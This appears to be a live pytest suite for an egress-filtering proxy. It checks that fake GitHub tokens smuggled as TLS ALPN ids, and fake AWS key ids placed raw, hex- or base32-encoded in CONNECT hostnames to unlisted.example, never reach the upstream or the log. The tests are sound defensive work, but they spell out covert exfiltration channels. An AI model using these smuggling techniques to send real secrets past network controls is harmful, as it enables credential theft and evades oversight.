"""Live attack (guard/hello.py): an agent puts keys where the upstream connection carries them before any request
is inspected, through a real mitmdump, and a raw TCP upstream keeps every byte the proxy sends it (its ClientHello
included): a GitHub token as an ALPN id, an AWS key id in the CONNECT name under a policy that blocks keys to
unlisted hosts."""

from __future__ import annotations

import socket
import ssl
from pathlib import Path

import pytest

from tests.audit import fakes
from tests.live import harness
from tests.live.loopback_server import LoopbackServer

pytestmark = pytest.mark.live


class Catcher(LoopbackServer):
    """A TCP upstream on loopback that keeps the first bytes of every connection and closes it."""

    def __init__(self, ca: Path) -> None:
        super().__init__(ca=ca)
        self.received: list[bytes] = []
        self.start()

    def handle(self, conn: socket.socket) -> None:
        conn.settimeout(3)
        data = b""
        try:
            while len(data) < 16384 and (chunk := conn.recv(4096)):
                data += chunk
        except OSError:  # the read timed out or the proxy reset: keep what arrived
            pass
        self.received.append(data)


@pytest.fixture
def catcher(upstream_certs):
    c = Catcher(upstream_certs[0])
    yield c
    c.close()


def tunnel(proxy: harness.Proxy, host: str, alpn: list[str]) -> str:
    """CONNECT host:443, then a TLS handshake offering ``alpn``: how far it got."""
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=20) as s:
        s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            head += s.recv(1)
        if not head.startswith(b"HTTP/1.1 200"):
            return head.split(b"\r\n", 1)[0].decode()
        ctx = ssl.create_default_context(cafile=str(proxy.ca))
        ctx.check_hostname = False
        ctx.set_alpn_protocols(alpn)
        try:
            with ctx.wrap_socket(s, server_hostname=host) as t:
                t.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
                return t.recv(65536).split(b"\r\n", 1)[0].decode()
        except (ssl.SSLError, OSError) as e:
            return type(e).__name__


def test_an_alpn_id_that_is_not_https_never_reaches_the_upstream(tmp_path, catcher):
    token = fakes.github_token()
    proxy = harness.start_proxy(tmp_path, catcher)  # type: ignore[arg-type]  # a Catcher routes like an Upstream
    try:
        tunnel(proxy, "unlisted.example", [token, "http/1.1"])
    finally:
        proxy.stop()
    hello = b"".join(catcher.received)
    assert b"http/1.1" in hello  # the proxy did connect, offering HTTP's id ...
    assert token.encode() not in hello  # ... and not the client's other one
    assert token not in proxy.log


def test_a_key_in_the_connect_name_never_reaches_the_upstream_or_the_log(tmp_path, catcher):
    key = fakes.aws_key_id()
    policy = tmp_path / "policy.yaml"
    policy.write_text("version: 1\nunlisted_hosts: {mode: observe, actions: {request: {secret/precise: block}}}\n")
    proxy = harness.start_proxy(tmp_path, catcher, "--set", f"exitguard_policy={policy}")  # type: ignore[arg-type]
    try:
        outcome = tunnel(proxy, f"{key}.unlisted.example", ["http/1.1"])
        control = tunnel(proxy, "unlisted.example", ["http/1.1"])  # the same tunnel without the key connects
    finally:
        proxy.stop()
    assert key.encode() not in b"".join(catcher.received) and key.lower().encode() not in b"".join(catcher.received)
    assert catcher.received, (outcome, control)  # the control tunnel reached the upstream
    assert "aws-access-key-id" in proxy.log and key not in proxy.log


def test_a_key_hex_or_base32_encoded_in_the_connect_name_never_reaches_the_upstream(tmp_path, catcher):
    """attack16: a DNS label holds the hex (40) or base32 (32) of an AWS key id; the name was read as written."""
    import base64

    raw = fakes.aws_key_id().encode()
    labels = [raw.hex(), base64.b32encode(raw).decode().lower()]
    policy = tmp_path / "policy.yaml"
    policy.write_text("version: 1\nunlisted_hosts: {mode: observe, actions: {request: {secret/precise: block}}}\n")
    proxy = harness.start_proxy(tmp_path, catcher, "--set", f"exitguard_policy={policy}")  # type: ignore[arg-type]
    try:
        for label in labels:
            tunnel(proxy, f"{label}.unlisted.example", ["http/1.1"])
        tunnel(proxy, "unlisted.example", ["http/1.1"])  # the same tunnel without the key connects
    finally:
        proxy.stop()
    caught = b"".join(catcher.received).lower()
    assert catcher.received and not [label for label in labels if label.encode() in caught]
    assert proxy.log.count("aws-access-key-id") >= len(labels) and not [label for label in labels
                                                                         if label in proxy.log.lower()]
